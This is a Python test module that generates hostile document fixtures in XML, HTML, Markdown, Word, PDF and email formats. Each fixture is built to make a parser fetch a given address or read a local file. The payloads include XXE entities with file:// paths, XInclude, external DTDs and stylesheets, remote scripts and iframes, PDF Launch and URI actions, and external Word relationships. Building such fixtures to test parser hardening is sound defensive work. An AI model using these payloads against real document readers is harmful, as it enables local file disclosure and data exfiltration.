"""More hostile files, by what they abuse: references, names, repetition, encodings and structure of their formats.

A module holds those of a few formats. `HOSTILE` names each with the function that makes its bytes, as in
`tests.hostile`. `reaching(address, file)` returns those that ask for something outside themselves.
"""

from __future__ import annotations

from tests.hostile import _docx, _said
from tests.hostile_documents import markup, office, packed, pdf, text
from tests.hostile_documents.office import replaced
from tests.hostile_documents.packed import NAMES, parts_of_mail
from tests.hostile_documents.pdf import pages
from tests.hostile_documents.shared import ACT, LANTERNS, declared

__all__ = ["HOSTILE", "NAMES", "reaching"]
HOSTILE = {**markup.HOSTILE, **office.HOSTILE, **pdf.HOSTILE, **text.HOSTILE, **packed.HOSTILE}


def reaching(address: str, file: str) -> dict[str, bytes]:
    """Return files that ask for `address`, and for the local `file`, when they are read by what obeys them."""
    act = f"<Legislation {ACT}><P>{LANTERNS}</P></Legislation>"
    named = f'<!ENTITY f SYSTEM "file://{file}"><!ENTITY w SYSTEM "{address}/e"><!ENTITY % p SYSTEM "{address}/d"> %p;'
    rule = f'<DIV5 N="1" TYPE="PART"><HEAD>PART 1</HEAD><P>{LANTERNS} &f;&w;</P></DIV5>'
    including = 'xmlns:i="http://www.w3.org/2001/XInclude"'
    included = f'<i:include {including} href="file://{file}" parse="text"/><i:include {including} href="{address}/n"/>'
    linked = f"<img src='{address}/i'><link rel=stylesheet href='{address}/c'><script src='{address}/s'></script>"
    framed = f"<iframe src='file://{file}'></iframe><meta http-equiv=refresh content='0;url={address}/r'>"
    page = f"<html><head>{linked}<base href='{address}'></head><body><p>{LANTERNS}</p>{linked}{framed}</body>"
    pictures = f"![x]({address}/g) <img src='{address}/h'> ![y](file://{file})"
    action = b"/OpenAction<</S/URI/URI(%s/u)>>/AA<</O<</S/Launch/F(%s)>>>>" % (address.encode(), file.encode())
    access = f'Content-Type: message/external-body; access-type=URL; URL="{address}/m"'
    return {
        "act.xml": declared("Legislation", named, act.replace("</P>", " &f; &w;</P>")).encode(),
        "rule.xml": declared("DIV5", named, rule).encode(),
        "outside.xml": f'<!DOCTYPE Legislation SYSTEM "{address}/x">{act}'.encode(),
        "included.xml": act.replace("</Legislation>", f"{included}</Legislation>").encode(),
        "styled.xml": f'<?xml-stylesheet href="{address}/y" type="text/xsl"?>{act}'.encode(),
        "page.html": page.encode(),
        "page.md": f"# Lanterns\n\n{LANTERNS} {pictures}\n".encode(),
        "linked.docx": _linked_word(address),
        "acting.pdf": pages(b"3 0 R", 1, about=action),
        "outside.eml": parts_of_mail(f"{access}\n\nContent-Type: text/plain\n\n", body=LANTERNS),
    }


def _linked_word(address: str) -> bytes:
    """Return a Word document with a picture, a piece of text and a template at an address."""
    relation = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    kinds = (("X", "image"), ("Y", "aFChunk"), ("Z", "attachedTemplate"))
    related = "".join(
        f'<Relationship Id="rId{n}" Type="{relation}/{kind}" Target="{address}/{kind}" TargetMode="External"/>'
        for n, kind in kinds
    )
    end = "</Relationships>"
    return replaced(
        _docx(f'{_said(LANTERNS)}<w:altChunk xmlns:r="{relation}" r:id="rIdY"/>'),
        "word/_rels/document.xml.rels",
        lambda part: part.replace(end.encode(), f"{related}{end}".encode()),
    )
